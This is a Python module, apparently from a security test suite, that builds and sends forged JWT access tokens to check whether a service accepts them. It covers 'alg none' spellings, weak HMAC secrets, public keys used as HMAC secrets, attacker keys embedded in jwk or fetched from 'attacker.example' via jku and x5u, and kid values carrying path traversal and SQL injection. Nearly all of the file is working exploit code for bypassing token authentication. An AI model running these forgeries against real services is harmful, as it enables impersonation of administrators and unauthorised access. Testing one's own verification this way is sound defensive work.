"""Forged access tokens: everything that has opened a door somewhere, made from one genuine token and public keys."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

from stockade.demo.attacks.client import AttackError, Pair, Request, Target, bearer
from stockade.demo.attacks.outcome import Outcome, of

# SubjectPublicKeyInfo of P-256 up to the point (RFC 5480 section 2): what a PEM file of such a key begins with.
_SPKI_P256 = bytes.fromhex("3059301306072a8648ce3d020106082a8648ce3d030107034200")
EVIL = "https://attacker.example/keys.json"


@dataclass(frozen=True, slots=True)
class Forgery:
    """One forged request: what it tries, and the headers that try it; or a path of its own."""

    name: str
    headers: tuple[tuple[str, bytes], ...] = field(repr=False)
    path: str = "/api/profile/"


def encode(data: bytes) -> str:
    """base64url without padding (RFC 7515 section 2)."""
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def decode(text: str) -> bytes:
    """The reverse of `encode`."""
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def unsigned(header: Mapping[str, Any], claims: Mapping[str, Any]) -> str:
    """Header and claims in compact form, ready to be signed."""
    return ".".join(encode(json.dumps(part, separators=(",", ":")).encode()) for part in (header, claims))


def with_mac(header: Mapping[str, Any], claims: Mapping[str, Any], key: bytes) -> str:
    """A token with an HMAC by the algorithm that its header names."""
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[header["alg"]]
    text = unsigned(header, claims)
    return f"{text}.{encode(hmac.new(key, text.encode(), digest).digest())}"


def with_own_key(
    header: Mapping[str, Any], claims: Mapping[str, Any], key: ec.EllipticCurvePrivateKey
) -> str:
    """A token with a perfectly good ES256 signature, by a key that nobody trusts."""
    return signed(header, json.dumps(claims, separators=(",", ":")).encode(), key)


def signed(header: Mapping[str, Any], body: bytes, key: ec.EllipticCurvePrivateKey) -> str:
    """The same, of claims that are written already, and need be none."""
    text = f"{encode(json.dumps(header, separators=(',', ':')).encode())}.{encode(body)}"
    r, s = decode_dss_signature(key.sign(text.encode(), ec.ECDSA(hashes.SHA256())))
    return f"{text}.{encode(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"


def new_key() -> ec.EllipticCurvePrivateKey:
    """A key that nobody trusts."""
    return ec.generate_private_key(ec.SECP256R1())


def signing(jwk: Mapping[str, Any]) -> Callable[[Mapping[str, Any], bytes], str]:
    """Signs with a private key on P-256."""
    key = ec.derive_private_key(int.from_bytes(decode(jwk["d"]), "big"), ec.SECP256R1())
    return lambda header, body: signed(header, body, key)


def public_forms(jwk: Mapping[str, Any]) -> dict[str, bytes]:
    """The ways in which a public key may be mistaken for an HMAC secret."""
    forms = {
        "as JSON": json.dumps(jwk).encode(),
        "as compact JSON": json.dumps(jwk, separators=(",", ":")).encode(),
    }
    if jwk.get("crv") == "P-256":
        point = b"\x04" + decode(jwk["x"]) + decode(jwk["y"])
        der = _SPKI_P256 + point
        body = base64.encodebytes(der).decode().replace("\n", "")
        lines = "\n".join(body[i : i + 64] for i in range(0, len(body), 64))
        pem = f"-----BEGIN PUBLIC KEY-----\n{lines}\n-----END PUBLIC KEY-----\n".encode()
        forms |= {"as PEM": pem, "as PEM, stripped": pem.strip(), "as DER": der, "as point": point}
    return forms


def forgeries(target: Target, pair: Pair, admin: str, jwks: list[dict[str, Any]]) -> Iterator[Forgery]:
    """All of them, for one genuine pair of tokens; `admin` is how tokens name the user who is wanted."""
    for name, token in _tokens(target, pair, admin, jwks):
        yield Forgery(name, bearer(token))
    genuine = bearer(pair.access)
    yield Forgery("a refresh token as access token", bearer(pair.refresh))
    yield Forgery("two Authorization headers, forged first", (*bearer("e30.e30."), *genuine))
    yield Forgery("two Authorization headers, forged last", (*genuine, *bearer("e30.e30.")))
    yield Forgery(
        "bytes that are no text", (("Authorization", b"Bearer \xff\xfe\xfa." + pair.access.encode()),)
    )
    yield Forgery("a megabyte", bearer(pair.access + "A" * 1_000_000))
    yield Forgery("in the query string", (), f"/api/profile/?access_token={pair.access}")


def _tokens(target: Target, pair: Pair, wanted: str, jwks: list[dict[str, Any]]) -> Iterator[tuple[str, str]]:
    head, body, signature = pair.access.split(".")
    header, claims = json.loads(decode(head)), json.loads(decode(body))
    # An attacker wants to be somebody else: whichever claim names the user, and whatever rights stand in it.
    admin = {
        **claims,
        **{key: wanted for key in ("sub", "user_id") if key in claims},
        "scope": "admin",
    }
    for spelling in ("none", "None", "NONE", "nOnE", ""):
        yield f"alg {spelling!r}", unsigned({**header, "alg": spelling}, admin) + "."
    yield "no alg", unsigned({k: v for k, v in header.items() if k != "alg"}, admin) + "." + signature
    yield "other claims, same signature", f"{head}.{unsigned({}, admin).split('.')[1]}.{signature}"
    yield "no signature", f"{head}.{body}."
    yield "cut off", pair.access[:-8]
    yield "one bit flipped", f"{head}.{body}.{('B' if signature[0] == 'A' else 'A') + signature[1:]}"
    yield "signature of zeros", f"{head}.{unsigned({}, admin).split('.')[1]}.{encode(bytes(64))}"
    for secret in (b"", b"secret", b"django-insecure", target.base_url.encode()):
        yield (
            f"HS256 with {secret.decode() or 'an empty key'!r}",
            with_mac({**header, "alg": "HS256"}, admin, secret),
        )
    for jwk in jwks:
        for form, key in public_forms(jwk).items():
            for alg in ("HS256", "HS512"):
                yield f"{alg} with the public key {form}", with_mac({**header, "alg": alg}, admin, key)
    own = new_key()
    numbers = own.public_key().public_numbers()
    x, y = (encode(number.to_bytes(32, "big")) for number in (numbers.x, numbers.y))
    mine = {"kty": "EC", "crv": "P-256", "x": x, "y": y}
    signed = {**header, "alg": "ES256"}
    yield "own key under their kid", with_own_key(signed, admin, own)
    yield "own key, unknown kid", with_own_key({**signed, "kid": "mine"}, admin, own)
    yield "own key in jwk", with_own_key({**signed, "jwk": mine}, admin, own)
    yield (
        "own key in jwk, no kid",
        with_own_key({"alg": "ES256", "typ": header.get("typ"), "jwk": mine}, admin, own),
    )
    yield "own keys in jku", with_own_key({**signed, "jku": EVIL}, admin, own)
    yield "own certificate in x5u", with_own_key({**signed, "x5u": EVIL}, admin, own)
    for kid in (
        "../../../../dev/null",
        "/dev/null",
        "x' UNION SELECT '' --",
        "\x00",
        "k" * 10_000,
        "\ud83d\udd11",
    ):
        yield f"kid {kid[:24]!r}", with_mac({**header, "alg": "HS256", "kid": kid}, admin, b"")
    for odd in (7, None, ["a"], {"a": 1}, True):
        yield f"kid {odd!r}", with_own_key({**signed, "kid": odd}, admin, own)
    yield "crit that nobody knows", f"{unsigned({**header, 'crit': ['exp']}, claims)}.{signature}"
    yield "claims that are a list", f"{head}.{encode(b'[]')}.{signature}"
    yield "deeply nested claims", f"{head}.{encode(b'[' * 20_000)}.{signature}"
    yield "five parts", f"{pair.access}.e30.e30"
    yield from _by_the_right_key(target, header, claims)


def _by_the_right_key(
    target: Target, header: Mapping[str, Any], claims: Mapping[str, Any]
) -> Iterator[tuple[str, str]]:
    """Genuine signatures under claims that must not be taken: of another service, of another time."""
    now = int(time.time())
    yield "for another audience, right key", target.mint(header, {**claims, "aud": "https://other.example"})
    yield "by another issuer, right key", target.mint(header, {**claims, "iss": "https://other.example"})
    yield "expired, right key", target.mint(header, {**claims, "iat": now - 7200, "exp": now - 3600})
    yield "not valid yet, right key", target.mint(header, {**claims, "nbf": now + 3600, "exp": now + 7200})
    endless = {key: value for key, value in claims.items() if key != "exp"}
    yield "never expires, right key", target.mint(header, endless)


def forged(target: Target) -> Outcome:
    """Show every forgery of our own tokens."""
    here = target.elsewhere()
    pair = here.login("alice")
    if not here.admits(pair.access):
        raise AttackError("a genuine access token was refused")
    jwks = here.get("/.well-known/jwks.json").json().get("keys", [])
    admin = json.loads(decode(here.login("admin").access.split(".")[1]))
    kinds = list(forgeries(here, pair, str(admin.get("sub") or admin.get("user_id")), jwks))
    return shown(target, kinds)


def shown(target: Target, kinds: Sequence[Forgery]) -> Outcome:
    """Show each, from a fresh address so that no limit hides what verification says."""
    admitted, broken = [], []
    for kind in kinds:
        answer = target.elsewhere().send(Request("GET", kind.path, headers=kind.headers))
        if answer.status == 200:
            admitted.append(kind.name)
        elif answer.status >= 500:
            broken.append(kind.name)
    return Outcome(
        stopped=not admitted and not broken,
        result=f"{of(len(admitted), len(kinds))} admitted" + (f", {len(broken)} errors" if broken else ""),
        numbers={"forgeries": len(kinds), "admitted": admitted, "errors": broken},
    )
